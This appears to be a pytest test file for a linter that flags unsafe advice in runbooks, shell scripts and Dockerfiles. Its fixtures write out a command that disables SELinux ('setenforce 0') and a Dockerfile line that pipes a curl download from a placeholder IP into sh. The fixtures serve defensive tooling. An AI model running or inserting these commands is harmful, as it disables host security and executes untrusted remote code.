from __future__ import annotations

import json

import pytest
from support.command import Command

UNSAFE = "# Fix\n\nRun this on the node:\n\n```bash\nsudo setenforce 0\n```\n"
SAFE = "# Fix\n\nNever run `setenforce 0` on a production host; read the denial with `ausearch -m avc -ts recent`.\n"


def test_unsafe_advice_is_exit_3_with_its_place_reason_and_way_out(run: Command) -> None:
    (run.home / "runbook.md").write_text(UNSAFE)
    done = run("lint", "runbook.md")
    assert done.returncode == 3
    assert "runbook.md:6:" in done.stdout
    assert "disable-mac" in done.stdout
    assert "instead:" in done.stdout


def test_a_warning_is_no_finding(run: Command) -> None:
    done = run("lint", "-", stdin=SAFE)
    assert (done.returncode, done.stdout) == (0, "")


def test_a_folder_is_searched_and_kinds_go_by_name(run: Command) -> None:
    folder = run.home / "ops"
    folder.mkdir()
    (folder / "a.sh").write_text("#!/bin/sh\nsetenforce 0\n")
    (folder / "Dockerfile").write_text("FROM scratch\nRUN curl http://192.0.2.1/x | sh\n")
    (folder / "picture.png").write_bytes(b"setenforce 0")
    rows = json.loads(run("lint", "ops", "--as", "json").stdout)
    assert {row["file"] for row in rows} == {"ops/a.sh", "ops/Dockerfile"}


@pytest.mark.parametrize("form", ["json", "sarif", "github"])
def test_machine_forms_hold_the_finding(run: Command, form: str) -> None:
    (run.home / "r.md").write_text(UNSAFE)
    done = run("lint", "r.md", "--as", form)
    assert done.returncode == 3
    if form == "json":
        assert json.loads(done.stdout)[0]["class"] == "disable-mac"
    elif form == "sarif":
        region = json.loads(done.stdout)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]
        assert region["startLine"] == 6
    else:
        assert done.stdout.startswith("::error file=r.md,line=6")


def test_fail_on_sets_the_bar(run: Command) -> None:

    assert run("lint", "-", "--fail-on", "low", stdin=UNSAFE).returncode == 3


def test_a_missing_file_is_exit_4(run: Command) -> None:
    assert run("lint", "nowhere.md").returncode == 4
